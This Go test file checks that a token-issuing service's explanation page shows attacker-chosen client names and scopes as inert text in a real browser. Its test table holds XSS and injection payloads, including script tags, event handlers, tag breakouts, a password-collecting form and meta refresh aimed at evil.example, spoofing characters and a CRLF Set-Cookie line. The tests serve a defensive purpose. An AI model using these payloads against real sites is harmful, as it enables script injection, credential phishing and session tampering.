package main

import (
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/fc28f635/countersign/issuer"
)

// seenPage is what a browser made of a page.
type seenPage struct {
	Title, Lang, Name, Told, Text, Width string
	Elements, Attributes                 []string
	Headings                             []string
	Ran                                  bool
}

const lookAtPage = `(() => {
	const all = [...document.querySelectorAll("*")], text = id => document.getElementById(id)?.textContent ?? "";
	return {
		Title: document.title, Lang: document.documentElement.lang, Name: text("name"), Told: text("told"),
		Text: document.body.textContent, Width: getComputedStyle(document.querySelector("main") ?? document.body).maxWidth,
		Elements: [...new Set(all.map(e => e.localName))],
		Attributes: [...new Set(all.flatMap(e => e.getAttributeNames()))],
		Headings: [...document.querySelectorAll("h1,h2,h3")].map(e => e.localName),
		Ran: "ran" in window,
	}
})()`

// What the page is made of: nothing that loads, leads or asks.
var (
	pageElements   = strings.Fields("html head meta title style body main header h1 h2 h3 p time section div dl dt dd bdi code table caption thead tbody tr th td article footer")
	pageAttributes = strings.Fields("lang charset name content class datetime id scope aria-labelledby")
)

// A stranger chooses the name, the scopes and the members of a registration. In
// a real browser they are text.
func TestWhyPageInABrowser(t *testing.T) {
	s := startTestService(t)
	b := startBrowser(t)
	const script = "window.ran=1"
	for _, test := range []struct{ name, client, shown string }{
		{"a plain name", "Acme Agent", "Acme Agent"},
		{"H20 a script", "<script>" + script + "</script>", "<script>" + script + "</script>"},
		{"H20 an event handler", `<img src=x onerror=` + script + `>`, `<img src=x onerror=` + script + `>`},
		{"H20 an attribute that ends", `"><svg onload='` + script + `'>`, `"><svg onload='` + script + `'>`},
		{"H20 a title that ends", "</title><script>" + script + "</script>", "</title><script>" + script + "</script>"},
		{"H20 a style that ends", "</style></bdi><style>@import '//evil.example'", "</style></bdi><style>@import '//evil.example'"},
		{"H20 a scheme", "javascript:" + script, "javascript:" + script},
		{"H20 a form", "<form action=https://evil.example><input name=password>", "<form action=https://evil.example><input name=password>"},
		{"H20 a refresh", "<meta http-equiv=refresh content='0;https://evil.example'>", "<meta http-equiv=refresh content='0;https://evil.example'>"},
		{"H20 references", "&lt;b&gt;&#60;script&#62;", "&lt;b&gt;&#60;script&#62;"},
		{"H20 a template", `{{.Style}}{{"x"}}`, `{{.Style}}{{"x"}}`},
		{"H20 right to left", "Acme \u202egnp.exe", `Acme \u202egnp.exe`},
		{"H20 invisible letters", "Acme\u3164\u200bAgent", `Acme\u3164\u200bAgent`},
		{"H20 ten kilobytes", strings.Repeat("A", 10<<10), strings.Repeat("A", 100) + "…"},
		{"H20 NUL", "Acme\x00Agent", `Acme\x00Agent`},
		{"H20 an escape sequence", "\x1b[31mAcme", `\x1b[31mAcme`},
		{"H20 a line break", "Acme\r\nSet-Cookie: a=b", `Acme\r\nSet-Cookie: a=b`},
	} {
		t.Run(test.name, func(t *testing.T) {
			d := s.decideOn(t, map[string]any{"client_name": test.client, "redirect_uris": []string{"http://127.0.0.1/callback"},
				"scope": "files.read <script>" + script + "</script>", "<img/src=x/onerror=" + script + ">": 1})
			b.t = t
			b.open(d.Why)
			var page seenPage
			b.evaluate(lookAtPage, &page)
			if page.Name != test.shown {
				t.Errorf("the name is shown as %q, want %q", page.Name, test.shown)
			}
			if page.Ran || !b.only("request "+d.Why) {
				t.Errorf("a script ran (%t), or the page did more than load: %q", page.Ran, b.did)
			}
			for _, list := range []struct{ has, may []string }{{page.Elements, pageElements}, {page.Attributes, pageAttributes}} {
				if i := slices.IndexFunc(list.has, func(s string) bool { return !slices.Contains(list.may, s) }); i >= 0 {
					t.Errorf("the page has %q, which is not its own", list.has[i])
				}
			}
			title := map[issuer.Outcome]string{issuer.Approved: "The application was let in, with less than it asked for", issuer.Denied: "The application was refused"}[d.Outcome]
			if page.Title != title || page.Lang != "en" || page.Width != "736px" || page.Headings[0] != "h1" {
				t.Errorf("title %q, language %q, width %q, headings %q", page.Title, page.Lang, page.Width, page.Headings)
			}
			if d.Outcome == issuer.Approved && !strings.Contains(page.Text, "<script>"+script+"</script>") {
				t.Error("the scope that was cut is not there as text")
			}
		})
	}
	t.Run("H20 no such decision", func(t *testing.T) {
		b.t = t
		address := s.url() + "/why/%3Cscript%3Ewindow.ran=1"
		b.open(address)
		var page seenPage
		b.evaluate(lookAtPage, &page)
		if page.Title != "No explanation" || page.Ran || strings.Contains(page.Text, "script") {
			t.Errorf("%+v", page)
		}
	})
}

// Whatever a stranger chose, the page is no wider than a phone.
func TestWhyPageFitsAPhone(t *testing.T) {
	s := startTestService(t)
	b := startBrowser(t)
	const phone = 320
	b.resize(phone)
	long := strings.Repeat("W", 100)
	b.open(s.decideOn(t, map[string]any{"client_name": long, "redirect_uris": []string{"http://127.0.0.1/callback"},
		"scope": "files.read " + long, long: 1}).Why)
	var width int
	if b.evaluate("document.documentElement.scrollWidth", &width); width != phone {
		t.Errorf("the page is %d pixels wide, want %d", width, phone)
	}
}

// The same look at a page without escapes and policy sees everything that it
// looks for.
func TestBrowserSeesWhatAPageDoes(t *testing.T) {
	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Path == "/policy" {
			w.Header().Set("Content-Security-Policy", "default-src 'none'")
		}
		_, _ = io.WriteString(w, `<!DOCTYPE html><main><bdi id=name><img src=//evil.example/x><script>window.ran=1; console.log("ran"); alert("ran"); nothing()</script></bdi>`)
	}))
	defer page.Close()
	b := startBrowser(t)
	for path, want := range map[string]struct {
		ran bool
		did []string
	}{
		"/open":   {true, []string{"request http://evil.example/x", "console ", "dialog ran", "exception "}},
		"/policy": {false, []string{"log "}},
	} {
		t.Run(path, func(t *testing.T) {
			b.t = t
			b.open(page.URL + path)
			var seen seenPage
			b.evaluate(lookAtPage, &seen)
			if seen.Ran != want.ran || b.only("request "+page.URL+path) || !slices.Contains(seen.Elements, "script") {
				t.Errorf("ran %t, elements %q, did %q", seen.Ran, seen.Elements, b.did)
			}
			for _, did := range want.did {
				if !slices.ContainsFunc(b.did, func(s string) bool { return strings.HasPrefix(s, did) }) {
					t.Errorf("not seen: %q; seen: %q", did, b.did)
				}
			}
		})
	}
}

// startTestService starts a whole service, which ends with the test.
func startTestService(t *testing.T) *service {
	t.Helper()
	s, err := startService(t.Context(), serviceConfig{Dir: t.TempDir(), Listen: "127.0.0.1:0", Small: true,
		MinFreeBytes: 16 << 20, Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := s.stop(); err != nil {
			t.Error(err)
		}
	})
	return s
}

// decideOn asks a service for a decision on a client.
func (s *service) decideOn(t *testing.T, client map[string]any) (d issuer.Decision) {
	t.Helper()
	body, err := json.Marshal(map[string]any{"client": client})
	if err != nil {
		t.Fatal(err)
	}
	_, d, err = postDecision(s.url(), s.firstKey, string(body))
	if err != nil || d.Why == "" {
		t.Fatalf("no decision with an address: %+v %v", d, err)
	}
	return d
}
